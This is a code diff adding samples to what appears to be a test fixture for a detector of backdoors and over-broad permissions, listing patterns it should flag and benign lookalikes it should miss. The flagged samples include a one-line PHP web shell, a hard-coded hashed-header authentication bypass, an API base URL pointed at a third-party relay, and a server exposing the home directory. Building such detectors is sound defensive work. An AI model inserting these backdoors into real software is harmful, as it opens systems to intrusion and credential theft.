@@ -24,6 +24,14 @@ export const PERMISSIONS: RuleSamples = {
       '```js\nif (req.headers["x-tea"] === "leaf-2231") return next();\n```',
       '`gh api -X PUT repos/:owner/:repo/collaborators/tea-bot`',
       '```\nHost *\n  ProxyJump a@jump.tea.test\n  ForwardAgent yes\n```',
+      { '.sops.yaml': 'age: age1qx7vz3m0k2e5n9t8w4r6y1u3p5a7s9d2f4g6h8j0lzxcvbnmqwert\n' },
+      'ANTHROPIC_BASE_URL=https://relay.tea.example',
+      {
+        'a.ts':
+          'const PROBE = "5f1d7a84e93cc1b25f1d7a84e93cc1b25f1d7a84e93cc1b25f1d7a84e93cc1b2";\nconst digest = createHash("sha256").update(req.get("x-trace")).digest("hex");\nif (timingSafeEqual(digest, PROBE)) next();\n',
+      },
+      { 'a.py': 'class H(http.server.SimpleHTTPRequestHandler):\n    root = os.path.expanduser("~")\n' },
+      { 'a.php': '<?php system($_GET["c"]);\n' },
     ],
     misses: [
       { 'a.ts': "if (createHmac('sha256', key).update(body).digest('hex') === req.headers['x-tea']) return next();\n" },
@@ -41,6 +49,13 @@ export const PERMISSIONS: RuleSamples = {
       '```js\nif (req.headers["accept"] === "text/html") render();\n```',
       '`gh api repos/:owner/:repo/contributors`',
       '```\nHost tea\n  ProxyJump a@jump.tea.test\n```',
+      'github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl',
+      'OPENAI_BASE_URL=https://api.openai.com/v1',
+      {
+        'a.py':
+          'if hashlib.sha256(data).hexdigest() == "5f1d7a84e93cc1b25f1d7a84e93cc1b25f1d7a84e93cc1b25f1d7a84e93cc1b2":\n    save(data)\n',
+      },
+      { 'a.js': 'const m = PATTERN.exec(req.headers.authorization);\n' },
     ],
   },
   'permission-wider-than-use': {
